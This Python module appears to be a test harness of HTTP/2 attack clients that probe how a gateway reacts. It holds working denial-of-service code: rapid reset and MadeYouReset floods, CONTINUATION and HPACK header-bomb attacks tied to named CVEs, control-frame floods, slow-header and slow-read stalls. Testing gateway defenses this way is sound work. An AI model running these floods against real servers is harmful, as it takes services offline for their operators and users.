"""Clients that attack over HTTP/2, one function each: it is given a connection and does its worst on it until that ends.

What each returns is how it ended: the code of the GOAWAY, or None for an end without one.
"""
import select
import time

from h2wire import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Ended,
                    block, frame, head, literal, number, setting)

OPEN, WHOLE = END_HEADERS, END_HEADERS | END_STREAM
PIECE = 50  # attempts in one write: fast, and yet the end is seen soon


def drain(client, seconds):
    """Takes what comes for so long; does not wait for more than that."""
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0 and select.select([client.socket], [], [], left)[0]:
        client.read()


def repeat(client, make, most=50_000):
    """Sends make(0), make(1), … until the gateway ends it. The GOAWAY is read although more was sent than anybody read."""
    try:
        for first in range(0, most, PIECE):
            client.send(*(make(i) for i in range(first, first + PIECE)))
            while select.select([client.socket], [], [], 0)[0]:
                client.read()
    except (Ended, ConnectionError):
        pass
    return client.end()


def odd(i):
    """Numbers of streams, behind that of the one that is held."""
    return 2 * i + 3


def hold(client):
    """A request that the origin lets wait: between the warning and the end there is something only with a stream open."""
    client.send(frame(HEADERS, OPEN, 1, head("/held", "POST")))


def flood(make):
    def attack(client):
        hold(client)
        return repeat(client, make)
    return attack


def whole(stream, more=b"", method="GET"):
    return frame(HEADERS, WHOLE, stream, head(method=method) + more)


def opened(stream, more=b""):
    return frame(HEADERS, OPEN, stream, head(method="POST") + more)


rapid_reset = flood(lambda i: whole(odd(i)) + frame(RST_STREAM, 0, odd(i), number(CANCEL)))


def rapid_reset_of_what_runs(client):
    """Each request is under way at the origin before it is cancelled."""
    stream = 1
    try:
        while True:
            client.get(stream, "/slow")
            drain(client, 0.0005)
            client.send(frame(RST_STREAM, 0, stream, number(CANCEL)))
            stream += 2
    except (Ended, ConnectionError):
        return client.end()


# CVE-2025-8671: the gateway is made to send the RST_STREAM.
made_you_reset_by_length = flood(lambda i: opened(odd(i), literal(b"content-length", b"1")) + frame(DATA, 0, odd(i), b"22"))
made_you_reset_by_a_name = flood(lambda i: whole(odd(i), literal(b"X", b"1")))
made_you_reset_by_trailers = flood(lambda i: opened(odd(i)) + frame(HEADERS, END_HEADERS, odd(i), literal(b"x", b"1")))
made_you_reset_by_an_empty_window = flood(lambda i: whole(odd(i)) + frame(WINDOW_UPDATE, 0, odd(i), number(0)))
made_you_reset_by_a_full_window = flood(lambda i: opened(odd(i)) + frame(WINDOW_UPDATE, 0, odd(i), number(2**31 - 1)))
made_you_reset_by_data = flood(lambda i: whole(odd(i)) + frame(DATA, 0, odd(i), b"x"))
made_you_reset_by_a_priority = flood(lambda i: opened(odd(i)) + frame(PRIORITY, 0, odd(i), number(odd(i)) + b"x"))

settings = flood(lambda i: frame(SETTINGS, 0, 0))
changing_settings = flood(lambda i: frame(SETTINGS, 0, 0, setting(4, i)))
ping = flood(lambda i: frame(PING, 0, 0, b"12345678"))
empty_data = flood(lambda i: frame(DATA, 0, 1))
padding = flood(lambda i: frame(DATA, PADDED, 1, b"\xff" + bytes(255)))
priority = flood(lambda i: frame(PRIORITY, 0, odd(i), number(0) + b"x"))
window_update = flood(lambda i: frame(WINDOW_UPDATE, 0, 0, number(1)))
unknown = flood(lambda i: frame(200, 0, 0, b"x" * 100))


def unread_pings(client):
    """Nothing is read, so that the answers pile up."""
    hold(client)
    try:
        for _ in range(100):
            client.send(*[frame(PING, 0, 0, b"12345678")] * 500)
    except ConnectionError:
        pass
    return client.end()


def continuation(client):
    """CVE-2024-27316: a head that has no end."""
    client.send(frame(HEADERS, END_STREAM, 1, head()))
    return repeat(client, lambda i: frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 1000)))


def empty_continuation(client):
    client.send(frame(HEADERS, END_STREAM, 1, head()))
    return repeat(client, lambda i: frame(CONTINUATION, 0, 1))


def slow_head(client):
    """A byte now and then of a head that is never whole."""
    data, at = frame(HEADERS, WHOLE, 1, head() + literal(b"x", b"y" * 10_000)), 0
    try:
        while True:
            client.send(data[at:at + 1])
            at += 1
            drain(client, 0.02)
    except (Ended, ConnectionError):
        return client.end()


BOMB = head() + literal(b"x", b"y" * 3000, b"\x40") + b"\xbe" * 12_000


def bomb(client):
    """CVE-2026-49975: each byte is a field of three thousand; the windows stay shut, so that nothing of it can be let go."""
    client.send(frame(SETTINGS, 0, 0, setting(4, 0)))
    for i in range(90):
        client.send(frame(HEADERS, OPEN, odd(i), BOMB if i == 0 else head() + b"\xbe" * 12_000))
    try:
        drain(client, 0.5)
    except Ended:
        pass
    return client.goaway


def bomb_of_crumbs(client):
    client.send(frame(SETTINGS, 0, 0, setting(4, 0)))
    crumb = head() + literal(b"cookie", b"y" * 3000, b"\x40") + b"\xbe" * 12_000
    for i in range(90):
        client.send(frame(HEADERS, WHOLE, odd(i), crumb if i == 0 else head() + b"\xbe" * 12_000))
    try:
        drain(client, 0.5)
    except Ended:
        pass
    return client.goaway


def resets_of_stalled(client, path="/big"):
    """Asks for much with shut windows; how the streams ended."""
    client.send(frame(SETTINGS, 0, 0, setting(4, 0)))
    for i in range(50):
        client.get(odd(i), path)
    while any(client.answers[odd(i)].reset is None for i in range(50)):
        client.read()
    return {client.answers[odd(i)].reset for i in range(50)}


def window_stall(client):
    """CVE-2019-9517 and its kind. The connection is not at fault, its streams are."""
    return "reset" if resets_of_stalled(client) == {CANCEL} else "not reset"


def slow_read(client):
    """Windows wide open, and nothing is ever read."""
    client.send(frame(SETTINGS, 0, 0, setting(4, 2**31 - 1)), frame(WINDOW_UPDATE, 0, 0, number(2**30)))
    for i in range(50):
        client.get(odd(i), "/big")
    poll = select.poll()
    poll.register(client.socket, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
    return "ended" if poll.poll(5000) else "still open"


def lower_stream(client):
    client.get(5)
    client.answer(5)
    client.get(3)
    return client.end()


def same_stream(client):
    client.get(1)
    client.answer(1)
    client.get(1)
    return client.end()


def too_many_streams(client):
    """More at once than were offered, of a client that has not acknowledged the offer."""
    return repeat(client, lambda i: frame(HEADERS, OPEN, odd(i), head("/held", "POST")), 5000)


def large_heads(client):
    """As many heads as can be open at once, each as large as it may be, and none of them whole."""
    fields = block([("x", "y" * 7000)])
    for i in range(90):
        client.send(frame(HEADERS, OPEN, odd(i), head("/held", "POST") + fields * 2))
    drain(client, 0.5)
    return client.goaway
